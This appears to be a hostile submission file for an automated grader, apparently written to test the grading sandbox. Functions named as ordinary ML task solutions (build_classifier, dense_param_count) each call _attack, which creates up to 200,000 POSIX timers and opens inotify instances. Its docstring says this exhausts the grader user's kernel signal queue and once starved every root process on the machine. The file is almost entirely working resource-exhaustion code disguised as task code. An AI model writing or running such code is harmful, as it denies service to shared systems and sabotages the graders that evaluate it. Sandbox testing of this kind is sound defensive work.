"""Uses up what the kernel counts per user, not per process: the grader's user's queue of pending signals
(each POSIX timer holds a queued signal) and its inotify instances. As root, without bounds, this took
every root process's signal queue on the machine for as long as it ran."""
import ctypes

LIBC = ctypes.CDLL(None, use_errno=True)


def _attack():
    timers = 0
    while timers < 200_000:
        timer = ctypes.c_void_p()
        if LIBC.timer_create(1, None, ctypes.byref(timer)) != 0:  # CLOCK_MONOTONIC, SIGALRM
            break
        timers += 1
    inotify = LIBC.inotify_init1(0)
    refused = ctypes.get_errno() if inotify == -1 else 0
    raise PermissionError(f"attack: {timers} timers, inotify {'refused' if refused else 'opened'}")


def build_classifier(num_features, num_classes, units):
    _attack()


def dense_param_count(inputs, units):
    _attack()
